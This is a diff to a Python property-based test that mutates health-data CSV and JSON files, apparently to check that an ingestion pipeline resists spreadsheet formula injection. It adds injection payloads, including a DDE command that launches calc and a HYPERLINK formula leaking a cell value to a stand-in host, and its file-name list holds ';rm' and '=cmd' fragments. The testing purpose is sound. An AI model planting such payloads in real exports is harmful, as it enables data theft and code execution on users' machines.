@@ -43,6 +43,10 @@ NAME_TWISTS = (
     b";rm",
     b"=cmd",
 )
+FORMULAS = (
+    '=HYPERLINK("http://example.invalid/?"&A1,"Xem chi tiết")', "+1+1", "-2+3", "@SUM(1,1)",
+    "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
+)  # fmt: skip
 STAMPS = ("20991231T235959", "19700101T000000", "20260302T000000", "SAME", "20260303T120000")
 
 
@@ -134,6 +138,29 @@ class Mutation:
         path.write_bytes(data[: m.start()] + value.encode() + data[m.end() :])
         return f"number {m.group().decode()} → {value} in {_rel(landing, path)}"
 
+    # --- text that a spreadsheet would run ---------------------------------------------------
+
+    def _formula(self, landing: Path, path: Path) -> str:
+        """Replace a ward code (5 digits; else any text value) with a formula."""
+        formula = FORMULAS[int(self.arg) % len(FORMULAS)]
+        data = path.read_bytes()
+        if path.suffix == ".csv":
+            pattern, quoted = rb"[,;](\d{5})(?=[,;\r\n])", _csv_quote(formula)
+        elif path.suffix in (".json", ".ndjson"):  # string values only, never keys
+            pattern, quoted = rb'":\s*"([^"\\]{1,40})"', json.dumps(formula)[1:-1]
+        else:
+            return f"formula: {_rel(landing, path)} is not text"
+        values = list(re.finditer(pattern, data))
+        wards = [  # the FHIR ward extension (urn:vn:moh:ext:ma-xa) or CSV MAXA_CU_TRU
+            m for m in values if re.fullmatch(rb"\d{5}", m[1]) and (
+                path.suffix == ".csv" or b"ma-xa" in data[max(0, m.start() - 40) : m.start()])
+        ] or values  # fmt: skip
+        if not wards:
+            return f"formula: no value in {_rel(landing, path)}"
+        m = wards[self.where % len(wards)]
+        path.write_bytes(data[: m.start(1)] + quoted.encode() + data[m.end(1) :])
+        return f"value {m[1].decode(errors='replace')} → {formula!r} in {_rel(landing, path)}"
+
     # --- encodings ---------------------------------------------------------------------------
 
     def _encode(self, landing: Path, path: Path) -> str:
@@ -206,6 +233,10 @@ class Mutation:
         return f"restamp {_rel(landing, path)} → {new.name} (a copy)"
 
 
+def _csv_quote(value: str) -> str:
+    return '"' + value.replace('"', '""') + '"'
+
+
 def _rel(landing: Path, path: Path) -> str:
     return repr(os.fsencode(path.relative_to(landing)))[2:-1]
 
@@ -238,6 +269,7 @@ mutations = st.one_of(
     st.builds(Mutation, st.just("rename"), _index, st.integers(0, len(NAME_TWISTS) - 1), _index),
     st.builds(Mutation, st.just("number"), _index, st.integers(0, len(EDGE_NUMBERS) - 1), _index),
     st.builds(Mutation, st.just("encode"), _index, st.integers(0, len(ENCODINGS) - 1)),
+    st.builds(Mutation, st.just("formula"), _index, st.integers(0, len(FORMULAS) - 1), _index),
     st.builds(Mutation, st.just("duplicate"), _index, st.booleans(), _index),
     st.builds(Mutation, st.just("misplace"), _index, st.booleans(), _index),
     st.builds(Mutation, st.just("restamp"), _index, st.integers(0, len(STAMPS) - 1), _index),
